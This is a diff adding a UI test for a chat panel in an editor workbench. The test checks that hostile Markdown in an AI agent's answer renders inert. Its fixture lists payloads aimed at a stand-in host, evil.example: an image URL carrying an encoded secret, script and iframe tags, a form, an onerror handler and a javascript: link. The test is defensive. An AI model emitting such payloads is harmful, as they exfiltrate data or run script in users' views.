@@ -179,6 +179,40 @@ describe('the chat panel in the workbench', function () {
     }
   });
 
+  it('renders hostile Markdown inert: no remote images, scripts, frames, forms, handlers or javascript: links', async () => {
+    const { page, emulator } = workbench();
+    await runCommand(page, 'Agent: New Chat');
+    const hostile = [
+      '![status](https://evil.example/p.png?key=c2VjcmV0)',
+      '<img src="https://evil.example/x.png" onerror="window.__pwned = 1">',
+      '<script>window.__pwned = 2</script>',
+      '<iframe src="https://evil.example/"></iframe>',
+      '<form action="https://evil.example/"><input name="k"></form>',
+      '[click me](javascript:window.__pwned=3)',
+      '<a href="https://evil.example/" onclick="window.__pwned = 4">raw link</a> <kbd>Ctrl</kbd>',
+    ].join('\n\n');
+    emulator.load({ name: 'hostile-markdown', turns: [planTurn([{ id: '1', description: 'Answer' }]), textTurn([hostile])] });
+    await typeRequest(page, 'render this');
+    const frame = chatFrame(page);
+    await frame.locator('[data-testid="run-end"]').last().waitFor({ timeout: 30_000 });
+    const answer = frame.locator('[data-testid="assistant-text"]').last();
+    await answer.locator('a', { hasText: 'click me' }).click();
+    const found = await answer.evaluate((el) => ({
+      images: [...el.querySelectorAll('img')].map((i) => i.getAttribute('src')),
+      active: el.querySelectorAll('script, iframe, form, input, object, embed, style').length,
+      handlers: [...el.querySelectorAll('*')].flatMap((n) => [...n.attributes].map((a) => a.name).filter((a) => a.startsWith('on') || a === 'style')),
+      hrefs: [...el.querySelectorAll('a')].map((a) => a.getAttribute('href') ?? ''),
+      pwned: (window as unknown as { __pwned?: number }).__pwned,
+    }));
+    assert.deepEqual(found.images, [], 'no <img> with a remote source');
+    assert.equal(found.active, 0, 'no script, frame, form or input');
+    assert.deepEqual(found.handlers, [], 'no event handlers or inline styles');
+    assert.ok(found.hrefs.every((h) => !/^javascript:/i.test(h)), found.hrefs.join(', '));
+    assert.equal(found.pwned, undefined, 'nothing ran');
+    // The remote image is offered as a link to open (after the editor's own confirmation), not loaded.
+    assert.ok(found.hrefs.some((h) => h.startsWith('https://evil.example/p.png')), found.hrefs.join(', '));
+  });
+
   it('looks right in a light theme mid-run', async () => {
     const { page, emulator } = workbench();
     writeFileSync(join(dir, 'hello.ts'), HELLO);
